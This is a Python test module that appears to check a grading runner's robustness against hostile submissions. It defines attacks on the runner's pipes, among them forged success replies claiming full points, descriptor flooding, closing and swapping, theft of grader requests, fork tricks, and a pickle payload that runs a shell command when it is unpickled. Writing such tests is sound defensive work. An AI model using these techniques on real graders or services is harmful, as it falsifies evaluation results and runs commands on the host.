"""Use the descriptors that are open in the runner: write, close, swap, steal."""

from tests.attacks import HandIn, attack

# The runner's frames: two lengths, a tree in JSON, bytes of arrays.
FORGE = """
import fcntl, json, os, struct, sys, threading, time
def descriptors():
    return [int(n) for n in os.listdir("/proc/self/fd") if int(n) > 2]
def send(data):
    for number in descriptors():
        try:
            os.write(number, data)
        except OSError:
            pass
def frame(tree, blob=b""):
    text = tree if isinstance(tree, bytes) else json.dumps(tree).encode()
    return struct.pack("!II", len(text), len(blob)) + text + blob
def replies(value):
    for number in range(300):
        send(frame({"dict": [["to", number], ["value", value]]}))
"""
PICKLED = b"cos\nsystem\n(S'touch %s'\ntR."


def _in_the_call(hand_in: HandIn, code: str) -> None:
    """Run code inside every function."""
    hand_in.guess()
    hand_in.extra(FORGE)
    hand_in.bodies(code)


@attack("pipes")
def garbage_on_every_descriptor(hand_in: HandIn) -> None:
    """Write random bytes to everything that is open."""
    _in_the_call(hand_in, "send(os.urandom(4096))\nreturn 0")


@attack("pipes")
def forged_success(hand_in: HandIn) -> None:
    """Answer before the runner does, that all is well and worth 16 points."""
    _in_the_call(
        hand_in,
        """
        for word in ({"ok": True, "points": 16}, {"status": "ok"}, True, None, "correct"):
            send(json.dumps(word).encode() + b"\\n")
            send(frame(word))
            replies(word)
        return 0
        """,
    )


@attack("pipes")
def replies_before_being_asked(hand_in: HandIn) -> None:
    """Let a thread send answers to all requests that are still to come."""
    hand_in.guess()
    hand_in.extra(
        FORGE
        + """
def flood():
    while True:
        replies({"dict": [["value", 0], ["changed", {"list": []}]]})
threading.Thread(target=flood, daemon=True).start()
"""
    )


@attack("pipes")
def frame_of_four_gigabytes(hand_in: HandIn) -> None:
    """Announce the longest frame there is, and send none of it."""
    _in_the_call(hand_in, 'send(b"\\xff" * 8)\nreturn 0')


@attack("pipes", flagged=True)
def reply_that_never_ends(hand_in: HandIn) -> None:
    """Announce a frame within the limits, and send a byte of it now and then."""
    _in_the_call(
        hand_in,
        """
        send(struct.pack("!II", 2**20, 2**20))
        while True:
            try:
                send(b" ")
                time.sleep(0.2)
            except BaseException:
                pass
        """,
    )


@attack("pipes")
def tree_100_000_deep(hand_in: HandIn) -> None:
    """Forge a reply that nests too deeply for a parser."""
    _in_the_call(hand_in, 'send(frame(b"[" * 100_000 + b"]" * 100_000))\nreturn 0')


@attack("pipes")
def pickle_on_every_descriptor(hand_in: HandIn) -> None:
    """Send a pickle that runs a command where it is read."""
    mark = str(hand_in.class_folder / "unpickled").encode()
    _in_the_call(hand_in, f"send({PICKLED % mark})\nsend(frame(b'x'))\nreturn 0")


@attack("pipes", flagged=True)
def every_descriptor_closed(hand_in: HandIn) -> None:
    """Close everything that is open, and go on."""
    _in_the_call(hand_in, "os.closerange(0, 4096)\nreturn 0")


@attack("pipes", flagged=True)
def descriptors_swapped(hand_in: HandIn) -> None:
    """Connect what is read with what is written, and wait."""
    _in_the_call(
        hand_in,
        """
        read, write = os.pipe()
        for number in descriptors():
            try:
                mode = fcntl.fcntl(number, fcntl.F_GETFL) & os.O_ACCMODE
                os.dup2(read if mode == os.O_RDONLY else write, number)
            except OSError:
                pass
        return 0
        """,
    )


@attack("pipes")
def requests_stolen(hand_in: HandIn) -> None:
    """Let a thread read the grader's requests before the runner gets them."""
    hand_in.guess()
    hand_in.extra(
        FORGE
        + """
def steal(number):
    while True:
        try:
            os.read(number, 65536)
        except OSError:
            time.sleep(0.01)
for number in descriptors():
    threading.Thread(target=steal, args=(number,), daemon=True).start()
"""
    )


@attack("pipes")
def pipes_opened_the_other_way(hand_in: HandIn) -> None:
    """Open the runner's pipes again, for both directions, and read its own answers away."""
    _in_the_call(
        hand_in,
        """
        import contextlib
        for number in descriptors():
            with contextlib.suppress(OSError):
                again = os.open(f"/proc/self/fd/{number}", os.O_RDWR | os.O_NONBLOCK)
                os.write(again, bytes(100))
                os.read(again, 100)
        return 0
        """,
    )


@attack("pipes")
def descriptors_that_do_not_block(hand_in: HandIn) -> None:
    """Make every pipe small and non-blocking, and ask for signals from it."""
    _in_the_call(
        hand_in,
        """
        for number in descriptors():
            for what, value in ((fcntl.F_SETFL, os.O_NONBLOCK | os.O_ASYNC),
                                (fcntl.F_SETPIPE_SZ, 4096),
                                (fcntl.F_SETOWN, os.getpid())):
                try:
                    fcntl.fcntl(number, what, value)
                except OSError:
                    pass
        return np.zeros(10**6)
        """,
    )


@attack("pipes", flagged=True)
def child_holds_the_pipe(hand_in: HandIn) -> None:
    """End, and leave the pipe open in a child, so that nobody sees the end."""
    _in_the_call(
        hand_in,
        """
        if os.fork() == 0:
            os.setsid()
            while True:
                try:
                    time.sleep(1)
                except BaseException:
                    pass
        os._exit(0)
        """,
    )


@attack("pipes")
def two_runners(hand_in: HandIn) -> None:
    """Fork, and let parent and child answer every request."""
    hand_in.guess()
    hand_in.extra("import os\nos.fork()")
    hand_in.body("convolve", "import os\nos.fork()\nreturn os.getpid()")
